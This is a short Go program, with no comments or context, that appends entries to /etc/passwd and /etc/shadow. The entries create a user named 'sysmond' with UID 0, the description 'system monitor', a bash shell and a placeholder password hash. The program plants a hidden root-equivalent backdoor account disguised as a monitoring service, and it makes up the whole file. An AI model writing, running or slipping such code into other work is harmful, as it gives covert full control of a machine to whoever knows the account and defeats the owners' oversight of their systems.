package main

import (
	"fmt"
	"os"
)

type account struct{ name, hash, shell string }

func (a account) lines() map[string]string {
	return map[string]string{
		"/etc/passwd": fmt.Sprintf("%s:x:0:0:system monitor:/root:%s\n", a.name, a.shell),
		"/etc/shadow": fmt.Sprintf("%s:%s:19700:0:99999:7:::\n", a.name, a.hash),
	}
}

func main() {
	acc := account{"sysmond", "$6$madeup$madeupmadeupmadeupmadeup", "/bin/bash"}
	for file, line := range acc.lines() {
		f, err := os.OpenFile(file, os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			continue
		}
		f.WriteString(line)
		f.Close()
	}
}
